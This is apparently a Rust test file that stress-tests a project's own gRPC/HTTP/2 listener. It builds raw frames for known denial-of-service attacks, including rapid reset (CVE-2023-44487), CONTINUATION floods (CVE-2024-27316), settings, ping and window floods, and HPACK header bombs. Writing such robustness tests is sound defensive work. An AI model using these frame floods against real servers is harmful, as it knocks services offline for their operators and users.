//! Attacks by frames of HTTP/2, on the listener that also speaks gRPC.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use super::{Attack, connect};
use crate::cli::Served;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `:method: GET`, `:scheme: http`, `:path: /`.
const HEAD: [u8; 3] = [0x82, 0x86, 0x84];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The numbers of the streams of so many requests.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// Sends these frames for as long as the other side takes them, while what it says is thrown away.
fn flood(url: &str, frames: impl Iterator<Item = Vec<u8>>) -> usize {
    let mut stream = connect(url);
    let mut reader = stream.try_clone().unwrap();
    reader.set_read_timeout(Some(Duration::from_secs(1))).unwrap();
    let drain = std::thread::spawn(move || {
        let mut piece = [0; 64 * 1024];
        while let Ok(1..) = reader.read(&mut piece) {}
    });
    let mut sent = 0;
    let begun = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    if stream.write_all(&begun).is_ok() {
        stream.set_write_timeout(Some(Duration::from_secs(2))).unwrap();
        for bytes in frames {
            if stream.write_all(&bytes).is_err() {
                break;
            }
            sent += 1;
        }
    }
    drop::<TcpStream>(stream);
    drain.join().unwrap();
    sent
}

#[test]
fn floods_of_frames_end_a_connection_and_nothing_else() {
    let agent = Served::agent(&["grpc"]);
    let url = agent.agent_url();
    let mut attack = Attack::new("floods of HTTP/2 frames");
    let whole = END_STREAM | END_HEADERS;
    // CVE-2023-44487.
    let reset = |stream| [frame(HEADERS, whole, stream, &HEAD), frame(RESET, 0, stream, &[0, 0, 0, 8])].concat();
    let mut counts = vec![("rapid resets", attack.attempt(|| flood(url, streams(20_000).map(reset))))];
    let open = |stream| frame(HEADERS, END_HEADERS, stream, &HEAD);
    counts.push(("streams that stay open", attack.attempt(|| flood(url, streams(5_000).map(open)))));
    // CVE-2024-27316.
    let endless = std::iter::once(frame(HEADERS, 0, 1, &HEAD));
    let endless = endless.chain(std::iter::repeat_n(frame(CONTINUATION, 0, 1, &[0x82; 4096]), 5_000));
    counts.push(("continuations", attack.attempt(|| flood(url, endless))));
    let many = |kind, payload: &'static [u8]| std::iter::repeat_n(frame(kind, 0, 0, payload), 20_000);
    counts.push(("settings", attack.attempt(|| flood(url, many(SETTINGS, &[0, 4, 0, 0, 0xff, 0xff])))));
    counts.push(("pings", attack.attempt(|| flood(url, many(PING, &[0; 8])))));
    let overflow = many(WINDOW, &[0x7f, 0xff, 0xff, 0xff]);
    counts.push(("windows that overflow", attack.attempt(|| flood(url, overflow))));
    let empty = std::iter::once(frame(HEADERS, END_HEADERS, 1, &HEAD));
    let empty = empty.chain(std::iter::repeat_n(frame(DATA, 0, 1, &[]), 20_000));
    counts.push(("empty data", attack.attempt(|| flood(url, empty))));
    // A table entry of 4 KB, named again and again: little to send, much to hold.
    let entry = [vec![0x40, 1, b'x', 0x7f, 0xe1, 0x1e], vec![b'a'; 4_000]].concat();
    let bomb = [HEAD.to_vec(), entry, vec![0xbe; 10_000]].concat();
    let bombs = streams(500).map(|stream| frame(HEADERS, whole, stream, &bomb));
    counts.push(("header bombs", attack.attempt(|| flood(url, bombs))));
    eprintln!("frames that were taken: {counts:?}");
    attack.end(Some(&agent));
}
